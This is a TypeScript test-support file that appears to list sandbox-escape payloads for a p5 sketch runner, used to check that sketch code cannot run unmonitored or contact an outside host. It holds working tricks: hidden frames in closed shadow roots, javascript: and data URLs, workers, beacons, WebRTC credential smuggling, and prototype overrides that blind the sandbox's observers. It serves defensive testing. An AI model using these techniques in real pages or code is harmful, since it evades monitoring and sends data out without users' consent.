/**
 * Ways in which a sketch might get code to run where nothing has been taken away from it, or reach
 * a host. Each is code of a sketch; it may use what `prelude` defines.
 */

/** Runs in a document that a sketch has made. It tells its parent, a host, and the history. */
export function childCode(host: string): string {
  return `(async () => {
    parent.postMessage('ran', '*');
    for (let i = 0; i < 31; i += 1) try { location.hash = 'child' + i; } catch {}
    try { new WebSocket('ws://${host}/socket'); } catch {}
    fetch('http://${host}/fetch').catch(() => {});
    new Image().src = 'http://${host}/image';
    ${webRtc(host)}
  })();`;
}

/** Leaves a word with a host: in the name of a connection, and by asking it for an address. */
export function webRtc(host: string): string {
  const [address = '', port = ''] = host.split(':');
  return `
    const asking = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] });
    asking.createDataChannel('x');
    await asking.setLocalDescription();
    const naming = new RTCPeerConnection();
    naming.createDataChannel('x');
    await naming.setLocalDescription();
    const sdp = naming.localDescription.sdp
      .replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:stolenwords')
      .replace(/a=ice-pwd:.*/g, 'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa')
      .replace(/a=setup:actpass/g, 'a=setup:active')
      .replace(/a=candidate.*\\r\\n/g, '');
    await naming.setRemoteDescription({ type: 'answer', sdp });
    await naming.addIceCandidate({
      candidate: 'candidate:1 1 udp 2113937151 ${address} ${port} typ host', sdpMLineIndex: 0,
    });`;
}

/** What the ways below use. `window.ran` counts the documents in which code of the sketch has run. */
export function prelude(host: string): string {
  return `
window.ran = 0;
window.addEventListener('message', ({ data }) => { if (data === 'ran') window.ran += 1; });
const host = '${host}';
const connectWords = ['p5.asciify runner: connect'];
const child = ${JSON.stringify(childCode(host))};
const asData = (text, type = 'text/javascript') => 'data:' + type + ',' + encodeURIComponent(text);
const asBlob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
const scriptOf = (address, attributes = '') =>
  '<script ' + attributes + ' src="' + address + '"></' + 'script>';
const page = '<!doctype html><body>' + scriptOf(asData(child)) + '</body>';
const escaped = (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const make = (name, given = {}) => Object.assign(document.createElement(name), given);
/** Puts an element where nobody finds it. */
const hide = (element) => {
  const host = document.body.appendChild(document.createElement('div'));
  host.attachShadow({ mode: 'closed' }).append(element);
  return element;
};
const frame = (srcdoc) => hide(make('iframe', { srcdoc }));
const later = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
`;
}

/** Frames, and what else holds a document, with code for it. */
export const documents: Readonly<Record<string, string>> = {
  'a frame with a script from a data address': `frame(page);`,
  'a frame with a script from a blob': `frame(scriptOf(asBlob(child)));`,
  'a frame with a module': `frame(scriptOf(asData(child), 'type="module"'));`,
  'a frame with an inline script': `frame('<script>' + child + '</' + 'script>');`,
  'a frame within a frame': `frame('<iframe srcdoc="' + escaped(page) + '"></iframe>');`,
  'a frame in the light': `document.body.append(make('iframe', { srcdoc: page }));`,
  'a frame with a page from a data address': `hide(make('iframe', { src: asData(page, 'text/html') }));`,
  'a frame with a page from a blob': `hide(make('iframe', { src: asBlob(page, 'text/html') }));`,
  'about:blank': `
    const blank = hide(make('iframe', { src: 'about:blank' }));
    try { blank.contentWindow.eval(child); } catch {}
    try { blank.contentDocument.write(page); } catch {}
    try { blank.contentWindow.location = asData(page, 'text/html'); } catch {}`,
  'javascript: addresses': `
    hide(make('iframe', { src: 'javascript:' + child }));
    frame('<a href="javascript:' + escaped(child) + '">x</a>');
    frame('<iframe src="javascript:' + escaped(child) + '"></iframe>');`,
  'handlers in markup': `frame('<img src="data:," onerror="' + escaped(child) + '">');`,
  'an object': `hide(make('object', { data: asData(page, 'text/html'), type: 'text/html' }));`,
  'an embed': `hide(make('embed', { src: asData(page, 'text/html'), type: 'text/html' }));`,
  'a portal': `
    hide(make('portal', { src: asData(page, 'text/html') }));
    hide(make('fencedframe', { src: asData(page, 'text/html') }));`,
  'a frameset': `
    frame('<frameset><frame src="' + escaped(asData(page, 'text/html')) + '"></frameset>');`,
  'SVG with a foreignObject': `
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    svg.innerHTML = '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"></iframe></foreignObject>';
    svg.querySelector('iframe').srcdoc = page;
    hide(svg);`,
  'SVG with a script': `
    frame('<svg><script href="' + escaped(asData(child)) + '"/></svg>');
    frame('<svg><script id="s"/><set attributeName="href" to="' + escaped(asData(child)) + '"/></svg>');
    hide(make('iframe', { src: asData('<svg xmlns="http://www.w3.org/2000/svg"><script href="'
      + escaped(asData(child)) + '"/></svg>', 'image/svg+xml') }));`,
  'an import map': `
    frame('<script type="importmap">{ "imports": { "x": "' + asData(child) + '" } }</' + 'script>'
      + '<script type="module">import "x"</' + 'script>');`,
  'a base': `frame('<base href="data:text/javascript,">' + scriptOf(encodeURIComponent(child)));`,
  'a refresh': `
    frame('<meta http-equiv="refresh" content="0; url=' + escaped(asData(page, 'text/html')) + '">');
    frame('<meta http-equiv="refresh" content="0; url=javascript:' + escaped(child) + '">');`,
  'links in a frame': `
    frame(['modulepreload', 'preload', 'stylesheet', 'manifest', 'import', 'prerender'].map((rel) =>
      '<link rel="' + rel + '" as="script" href="' + escaped(asData(child)) + '">').join(''));`,
  'a form': `
    frame('<form action="' + escaped(asData(page, 'text/html')) + '"><button autofocus></form>');
    const target = hide(make('iframe', { name: 'target' }));
    const form = document.body.appendChild(
      make('form', { action: asData(page, 'text/html'), target: 'target' }));
    form.submit();`,
  'windows and popups': `
    hide(make('iframe', { name: 'named' }));
    for (const name of ['named', '_blank', '_parent', '_top', 'new']) {
      const opened = window.open('about:blank', name);
      try { opened?.eval(child); } catch {}
      try { opened?.document.write(page); } catch {}
    }`,
  'a declared shadow root': `
    const declared = '<div><template shadowrootmode="closed"><iframe srcdoc="' + escaped(page)
      + '"></iframe></template></div>';
    const place = document.body.appendChild(make('div'));
    place.setHTMLUnsafe?.(declared);
    place.setHTML?.(declared);
    place.innerHTML = declared;
    const parsed = Document.parseHTMLUnsafe?.(declared) ??
      new DOMParser().parseFromString(declared, 'text/html');
    document.body.append(...parsed.body.childNodes);
    document.body.append(document.createRange().createContextualFragment(declared));`,
  'an open shadow root that was declared': `
    const place = document.body.appendChild(make('div'));
    place.setHTML?.('<div><template shadowrootmode="open"></template></div>');
    place.firstElementChild?.shadowRoot?.append(make('iframe', { srcdoc: page }));`,
  'a cloned shadow root': `
    const original = make('div');
    original.attachShadow({ mode: 'open', clonable: true });
    const copy = document.body.appendChild(original.cloneNode(true));
    copy.shadowRoot?.append(make('iframe', { srcdoc: page }));`,
  'a shadow root that inherits its options': `
    const original = make('div');
    original.attachShadow(Object.create({ mode: 'open', clonable: true }));
    const copy = document.body.appendChild(original.cloneNode(true));
    copy.shadowRoot?.append(make('iframe', { srcdoc: page }));`,
  'a shadow root within a shadow root': `
    const inner = hide(make('div'));
    inner.attachShadow({ mode: 'closed' }).append(make('iframe', { srcdoc: page }));`,
  'an element that comes back when it is removed': `
    let left = 20;
    customElements.define('coming-back', class extends HTMLElement {
      disconnectedCallback() { if (left-- > 0) document.body.append(make('iframe', { srcdoc: page }), this); }
    });
    document.body.append(document.createElement('coming-back'));
    document.querySelector('coming-back').remove();`,
  'the code of the sandbox, played to by the sketch': `
    const own = document.querySelector('script').textContent;
    const played = hide(make('iframe'));
    played.addEventListener('load', () => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => {};
      for (const word of connectWords) played.contentWindow?.postMessage(word, '*', [port2]);
      port1.postMessage({ type: 'load', scripts: [{ src: 'x', text: child }] });
    });
    played.srcdoc = '<script>' + own + '</' + 'script>';`,
};

/**
 * Natives that a sketch replaces while it makes a frame in the light and one that is hidden. They come
 * back later, since the tests use some of them.
 */
export const replacedNatives = `
const nothing = () => [];
const { define, read } = { define: Object.defineProperty, read: Object.getOwnPropertyDescriptor };
const replacements = [
  ...[Document, Element, DocumentFragment].flatMap(({ prototype }) => [
    [prototype, 'querySelectorAll', nothing], [prototype, 'querySelector', () => null],
  ]),
  [Element.prototype, 'remove', () => {}],
  [CharacterData.prototype, 'remove', () => {}],
  [Element.prototype, 'matches', () => false],
  [Element.prototype, 'closest', () => null],
  [Node.prototype, 'removeChild', () => {}],
  [MutationObserver.prototype, 'observe', () => {}],
  [window, 'MutationObserver', class { observe() {} }],
  [NodeList.prototype, Symbol.iterator, function* () {}],
  [NodeList.prototype, 'item', () => null],
  [NodeList.prototype, 'forEach', () => {}],
  [Array.prototype, Symbol.iterator, function* () {}],
  [Array.prototype, 'includes', () => false],
  [Array, 'from', nothing],
  [Set.prototype, 'has', () => false],
  [Element, Symbol.hasInstance, () => false],
  [ShadowRoot, Symbol.hasInstance, () => false],
  [Event.prototype, 'composedPath', nothing],
  [Event.prototype, 'preventDefault', () => {}],
  [Reflect, 'apply', () => undefined],
  [Reflect, 'get', () => undefined],
  [Function.prototype, 'call', () => undefined],
  [Function.prototype, 'apply', () => undefined],
  [Object.prototype, 'attributeFilter', []],
  [Object.prototype, 'childList', false],
  [window, 'Number', () => 0],
  [window, 'Boolean', () => false],
];
const before = [];
for (let i = 0; i < replacements.length; i += 1) {
  before[i] = read(replacements[i][0], replacements[i][1]);
}
const length = read(NodeList.prototype, 'length');
for (let i = 0; i < replacements.length; i += 1) {
  define(replacements[i][0], replacements[i][1],
    { value: replacements[i][2], configurable: true, writable: true });
}
define(NodeList.prototype, 'length', { get: () => 0, configurable: true });
frame(page);
document.body.appendChild(make('iframe', { srcdoc: page }));
for (let end = performance.now() + 500; performance.now() < end;) {
  await new Promise((resolve) => {
    const channel = new MessageChannel();
    channel.port1.onmessage = resolve;
    channel.port2.postMessage(0);
  });
}
define(NodeList.prototype, 'length', length);
for (let i = 0; i < replacements.length; i += 1) {
  if (before[i]) define(replacements[i][0], replacements[i][1], before[i]);
  else delete replacements[i][0][replacements[i][1]];
}
`;

/** Ways to a host other than by a document. */
export const connections: Readonly<Record<string, string>> = {
  'a worker': `
    const inWorker = "try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + host + "' }] }) } catch {}"
      + "fetch('http://" + host + "/worker').catch(() => {});"
      + "try { new WebSocket('ws://" + host + "/worker') } catch {}"
      + "try { importScripts('http://" + host + "/worker.js') } catch {}"
      + "try { new WebTransport('https://" + host + "/worker') } catch {}";
    for (const address of [asBlob(inWorker), asData(inWorker)]) {
      try { new Worker(address); } catch {}
      try { new Worker(address, { type: 'module' }); } catch {}
      try { new SharedWorker(address); } catch {}
    }
    try { new Worker('http://' + host + '/worker'); } catch {}`,
  'a worklet': `
    const inWorklet = "import 'http://" + host + "/worklet';";
    const audio = new OfflineAudioContext(1, 128, 44100);
    for (const address of [asBlob(inWorklet), asData(inWorklet), 'http://' + host + '/worklet']) {
      audio.audioWorklet?.addModule(address).catch(() => {});
      window.CSS.paintWorklet?.addModule(address).catch(() => {});
    }`,
  'requests of every kind': `
    const at = (path) => 'http://' + host + '/' + path;
    fetch(at('fetch'), { mode: 'no-cors', keepalive: true }).catch(() => {});
    try { window.fetchLater?.(at('later')); } catch {}
    try { navigator.sendBeacon(at('beacon'), 'x'); } catch {}
    try { new EventSource(at('events')); } catch {}
    try { new WebSocket('ws://' + host + '/socket'); } catch {}
    try { new WebTransport('https://' + host + '/transport').ready.catch(() => {}); } catch {}
    try { const request = new XMLHttpRequest(); request.open('POST', at('xhr')); request.send('x'); } catch {}
    for (const name of ['img', 'script', 'video', 'audio', 'input', 'track', 'source']) {
      document.body.append(make(name, { src: at(name), type: name === 'input' ? 'image' : '' }));
    }
    import(at('import')).catch(() => {});
    document.body.append(make('img', { srcset: at('srcset') + ' 1x' }));
    document.body.append(make('video', { poster: at('poster') }));
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," attributionsrc="' + at('attribution') + '">'
      + '<a href="#" ping="' + at('ping') + '" id="pinging">x</a>'
      + '<svg><image href="' + at('image') + '"/><use href="' + at('use') + '#x"/>'
      + '<filter id="f"><feImage href="' + at('feimage') + '"/></filter></svg>'
      + '<style>@import "' + at('import.css') + '"; @font-face { font-family: x; src: url(' + at('font')
      + '); } p { font-family: x; background: url(' + at('background') + '); }</style><p>x</p>'
      + '<script type="speculationrules">{ "prefetch": [{ "source": "list", "urls": ["' + at('rules') + '"] }] }</' + 'script>');
    new FontFace('y', 'url(' + at('face') + ')').load().catch(() => {});
    document.getElementById('pinging').click();`,
  'the picture of what plays': `
    try {
      navigator.mediaSession.metadata = new MediaMetadata({
        title: 'x', artwork: [{ src: 'http://' + host + '/artwork', sizes: '96x96' }],
      });
    } catch {}`,
};

/**
 * Ways that let a browser connect before anything is asked for, where the host of the site sends no
 * `Connection-Allowlist`.
 */
export const early: Readonly<Record<string, string>> = {
  'the address of a hidden frame': `hide(make('iframe', { src: 'http://' + host + '/frame' }));`,
  'the address of a frame in a frame': `frame('<iframe src="http://' + host + '/inner"></iframe>');`,
  'an object and an embed': `
    hide(make('object', { data: 'http://' + host + '/object' }));
    hide(make('embed', { src: 'http://' + host + '/embed' }));`,
  'a refresh of a frame': `frame('<meta http-equiv="refresh" content="0; url=http://' + host + '/refresh">');`,
  'links that are hidden': `
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
      hide(make('link', { rel, as: 'script', href: 'http://' + host + '/' + rel }));
    }`,
  'links in a frame': `
    frame(['preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon'].map((rel) =>
      '<link rel="' + rel + '" as="script" href="http://' + host + '/frame-' + rel + '">').join(''));`,
  'a form that is sent to a frame': `
    hide(make('iframe', { name: 'sent' }));
    document.body.appendChild(
      make('form', { action: 'http://' + host + '/form', target: 'sent' })).submit();`,
};
